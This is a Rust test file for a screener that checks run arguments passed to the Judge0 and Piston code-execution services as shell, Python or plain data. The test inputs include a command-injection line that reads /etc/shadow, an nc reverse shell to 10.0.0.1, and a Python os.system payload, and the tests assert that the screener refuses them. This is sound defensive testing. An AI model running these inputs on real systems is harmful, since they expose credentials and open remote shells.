//! Run arguments screened where they can run: Judge0's command line is shell
//! code for every language, Piston's argv is shell input to shell scripts and
//! code to a Python program that runs what it reads; otherwise data.

#[macro_use]
mod support;

use execgate_screen::{Language, RunArgs, ScreenPolicy, Verdict, screen_args};
use support::{shipped, verdict_in};

fn with_args(language: Language, program: &str, args: RunArgs<'_>) -> Verdict {
    let v = verdict_in(language, program);
    assert!(!v.refused, "the program alone passes: {:?}", v.findings);
    screen_args(shipped(), v, Some(language), args, &ScreenPolicy::default())
}

fn argv(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

fn from_args(v: &Verdict) -> bool {
    v.findings
        .iter()
        .any(|f| f.message.starts_with("args[") || f.message.starts_with("command_line_arguments"))
}

#[test]
fn judge0_command_line_is_shell_code_for_every_language() {
    let v = with_args(
        Language::Python,
        "print('hi')",
        RunArgs::ShellLine("1; cat /etc/shadow"),
    );
    assert!(v.refused && from_args(&v), "{:?}", v.findings);
    let v = with_args(
        Language::C,
        "int main(void) { return 0; }",
        RunArgs::ShellLine("$(nc -e /bin/sh 10.0.0.1 4444)"),
    );
    assert!(v.refused, "{:?}", v.findings);
}

#[test]
fn ordinary_command_lines_pass() {
    let v = with_args(
        Language::Python,
        "import sys\nprint(sys.argv[1:])",
        RunArgs::ShellLine("--n 10 input.txt"),
    );
    assert!(!v.refused, "{:?}", v.findings);
    let v = with_args(Language::Python, "print(1)", RunArgs::ShellLine("  "));
    assert!(v.findings.is_empty());
}

#[test]
fn piston_args_of_a_shell_script_are_screened_as_shell() {
    let args = argv(&["hello", "/etc/shadow"]);
    let v = with_args(Language::Bash, "cat \"$2\"", RunArgs::Argv(&args));
    assert!(v.refused && from_args(&v), "{:?}", v.findings);
    let args = argv(&["3", "words and more words"]);
    let v = with_args(Language::Bash, "echo \"$1\" \"$2\"", RunArgs::Argv(&args));
    assert!(!v.refused, "{:?}", v.findings);
}

#[test]
fn piston_args_run_as_code_by_python_are_screened_as_python() {
    let program = "import sys, timeit\ntimeit.timeit(sys.argv[1], number=1)";
    let v = verdict_in(Language::Python, program);
    // The program itself is refused (dynamic-code); in shadow its argument still is.
    assert!(v.runs_input_as_code);
    let args = argv(&["import os; os.system('id')"]);
    let v = screen_args(
        shipped(),
        v,
        Some(Language::Python),
        RunArgs::Argv(&args),
        &ScreenPolicy::default(),
    );
    assert!(
        v.findings
            .iter()
            .any(|f| f.rule == "PY-IMPORT-PROCESS" && f.message.starts_with("args[0]")),
        "{:?}",
        v.findings
    );
}

#[test]
fn piston_args_of_a_python_program_that_only_reads_them_are_data() {
    let args = argv(&["import os; os.system('id')", "/etc/shadow"]);
    let v = with_args(
        Language::Python,
        "import sys\nprint(len(sys.argv))",
        RunArgs::Argv(&args),
    );
    assert!(!v.refused && !from_args(&v), "{:?}", v.findings);
}
